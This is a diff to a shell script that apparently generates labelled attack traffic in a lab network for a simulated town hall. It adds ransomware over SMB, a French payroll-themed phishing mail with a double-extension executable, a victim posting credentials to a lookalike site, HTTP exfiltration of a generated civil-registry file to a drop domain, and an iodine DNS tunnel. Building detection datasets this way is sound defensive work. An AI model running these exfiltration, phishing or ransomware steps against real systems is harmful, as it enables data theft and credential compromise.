@@ -160,3 +160,81 @@ intr_smb_lateral() { # from compromised ws2 to the file server with stolen crede
   step_end
   gt_add intrusion smb_lateral "$IP_WS2" "$IP_FS" "$T0" "$T1" "Lateral movement over SMB from $IP_WS2 to $IP_FS with impacket psexec/smbexec: ADMIN\$ upload and svcctl service creation (CreateServiceW)" '{"tools": ["psexec.py", "smbexec.py"]}'
 }
+
+# ---------------------------------------------------------------- ransomware
+ransom_smb() { # ws style dirs
+  local ws="$1" style="$2" dirs="$3" ip; ip=$(eval echo \$IP_${ws^^}); step_begin
+  qt nsx "$ws" timeout 150 /usr/bin/python3 "$LAB_DIR/tools/ransom_smb.py" $IP_FS $SMB_USER "$SMB_PASS" Documents "$style" "$dirs" "${RANSOM_MAX:-200}"
+  step_end
+  local n; n=$(find "$RD/share" -name '*.locked' | wc -l)
+  gt_add ransomware smb_encryption "$ip" "$IP_FS" "$T0" "$T1" \
+    "Ransomware over SMB from $ip on share \\\\$IP_FS\\Documents ($style): every file read, encrypted copy written as *.locked, original $( [ "$style" = copy-delete ] && echo deleted || echo overwritten then renamed ), README_DECRYPT.txt notes dropped in $dirs" \
+    '{"style": "'$style'", "locked_files_on_share": '$n', "directories": "'"$dirs"'"}'
+}
+
+# ---------------------------------------------------------------- phishing
+phish_mail() {
+  local a="$RD/Bulletin_paie_novembre.pdf.exe"
+  { printf 'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff'; head -c 60000 /dev/urandom; } > "$a"
+  step_begin
+  qt nsc atk timeout 30 swaks --server $IP_MAIL --helo mail.$LOOKALIKE --from "rh@$LOOKALIKE" --to "agent@$DOMAIN" \
+     --header "From: Service RH Mairie <rh@$LOOKALIKE>" --header "Subject: Urgent : mise a jour de vos informations de paie" \
+     --body "Bonjour,
+
+Suite a un changement de prestataire, merci de confirmer vos identifiants avant vendredi :
+https://$LOOKALIKE/espace-agent/login.html
+
+Votre bulletin de paie est en piece jointe.
+Service des ressources humaines" \
+     --attach-type application/octet-stream --attach-name "$(basename "$a")" --attach @"$a"
+  step_end
+  gt_add phishing phishing_mail "$IP_ATK" "$IP_MAIL" "$T0" "$T1" \
+    "Phishing mail from $IP_ATK through $IP_MAIL to agent@$DOMAIN: sender and link on lookalike domain $LOOKALIKE (of $DOMAIN), executable attachment $(basename "$a") (double extension)" \
+    '{"lookalike": "'$LOOKALIKE'", "legit_domain": "'$DOMAIN'", "attachment": "'"$(basename "$a")"'", "recipient": "agent@'$DOMAIN'"}'
+}
+phish_click() { # ws: the victim resolves the lookalike and connects (TLS), then submits credentials
+  local ws="${1:-ws1}" ip; ip=$(eval echo \$IP_${ws^^}); step_begin
+  qt nsc "$ws" timeout 5 dig +tries=1 +time=2 "$LOOKALIKE" A
+  qt nsc "$ws" timeout 10 curl -sk -o /dev/null -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/128.0" "https://$LOOKALIKE/espace-agent/login.html"
+  qt nsc "$ws" timeout 10 curl -sk -o /dev/null -d "user=agent&password=$SMB_PASS" "https://$LOOKALIKE/espace-agent/login"
+  qt nsc "$ws" timeout 10 curl -s -o /dev/null "http://$LOOKALIKE/img/blason.png"
+  step_end
+  gt_add phishing lookalike_domain "$IP_PHISH" "$ip" "$T0" "$T1" \
+    "Workstation $ip resolves lookalike domain $LOOKALIKE (-> $IP_PHISH) via $IP_DNS and connects to it over TLS (SNI $LOOKALIKE) and HTTP, posting credentials" \
+    '{"lookalike": "'$LOOKALIKE'", "legit_domain": "'$DOMAIN'", "server": "'$IP_PHISH'"}'
+}
+
+# ---------------------------------------------------------------- data theft
+exfil_http() { # ws rows
+  local ws="${1:-ws3}" rows="${2:-20000}" f="$RD/etat-civil-registre.csv" ip; ip=$(eval echo \$IP_${ws^^})
+  /usr/bin/python3 "$LAB_DIR/tools/gen_content.py" registry "$f" "$rows"
+  local sz; sz=$(stat -c %s "$f"); step_begin
+  qt nsc "$ws" timeout 60 curl -s -o /dev/null -X POST -H "Content-Type: application/octet-stream" --data-binary @"$f" "http://depot-fichiers.net/upload/etat-civil-registre.csv"
+  step_end
+  gt_add exfiltration http_exfil "$ip" "$IP_DROP" "$T0" "$T1" \
+    "Bulk exfiltration: $ip uploads the civil registry ($sz bytes) by HTTP POST to $IP_DROP (depot-fichiers.net) outside the city's network" \
+    '{"bytes": '$sz', "url": "http://depot-fichiers.net/upload/etat-civil-registre.csv"}'
+}
+exfil_dns_tunnel() { # ws kbytes
+  local ws="${1:-ws3}" kb="${2:-64}" ip; ip=$(eval echo \$IP_${ws^^})
+  [ -c /dev/net/tun ] || { log "exfil_dns_tunnel: /dev/net/tun missing, skipped"; return 0; }
+  local f="$RD/etat-civil-extrait.csv"; /usr/bin/python3 "$LAB_DIR/tools/gen_content.py" registry "$f" $((kb * 1024 / 100))
+  step_begin
+  # iodine client through the city's resolver (-r: never bypass DNS with raw UDP)
+  setsid ip netns exec $P$ws timeout 150 iodine -f -r -P labtunnel $IP_DNS $TUNNEL_DOMAIN </dev/null >"$RD/log/iodine.log" 2>&1 &
+  local ipid=$! i
+  for i in $(seq 1 60); do nsx "$ws" ip -4 addr show dns0 2>/dev/null | grep -q inet && break; sleep 0.5; done
+  if nsx "$ws" ip -4 addr show dns0 2>/dev/null | grep -q inet; then
+    setsid ip netns exec ${P}drop timeout 150 /usr/bin/python3 "$LAB_DIR/tools/upload_server.py" 172.30.66.1 8080 "$RD/log/tunnel-received.log" </dev/null >/dev/null 2>&1 &
+    local spid=$!; sleep 1
+    qt nsx "$ws" timeout 120 curl -s -o /dev/null --data-binary @"$f" http://172.30.66.1:8080/x
+    kill $spid 2>/dev/null || true
+  else
+    log "exfil_dns_tunnel: tunnel did not come up (see $RD/log/iodine.log)"
+  fi
+  kill $ipid 2>/dev/null || true; sleep 0.5
+  step_end
+  gt_add exfiltration dns_tunnel "$ip" "$IP_DNS $IP_REFLECTOR $IP_DROP" "$T0" "$T1" \
+    "DNS tunnel (iodine) from $ip to $TUNNEL_DOMAIN (server $IP_DROP) through resolvers $IP_DNS and $IP_REFLECTOR: long high-entropy query names under $TUNNEL_DOMAIN, NULL/TXT/CNAME answers, $(stat -c %s "$f") bytes of the civil registry carried" \
+    '{"tunnel_domain": "'$TUNNEL_DOMAIN'", "tool": "iodine", "bytes": '"$(stat -c %s "$f")"', "received": '"$(cat "$RD/log/tunnel-received.log" 2>/dev/null | wc -l)"'}'
+}
